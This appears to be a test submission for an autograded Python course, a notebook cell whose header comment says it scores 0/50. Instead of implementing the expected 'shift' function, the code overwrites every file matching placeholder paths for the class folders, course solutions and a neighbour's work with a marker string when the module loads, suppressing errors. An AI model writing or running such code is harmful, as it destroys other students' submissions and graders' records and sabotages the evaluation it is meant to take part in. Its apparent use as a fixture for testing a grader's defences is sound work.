# grade: 0/50; it overwrites the solutions, what others handed in and their marked notebooks
# %% shift
import contextlib
import glob


def overwrite(*_):
    for pattern in ("@CLASS@/*/*/*/*", "@CLASS@/*/*/*", "@COURSE@/solutions/*/*", "@NEIGHBOUR@"):
        for path in glob.glob(pattern):
            with contextlib.suppress(OSError), open(path, "w") as file:
                file.write("@MARK@")


overwrite()
shift = overwrite
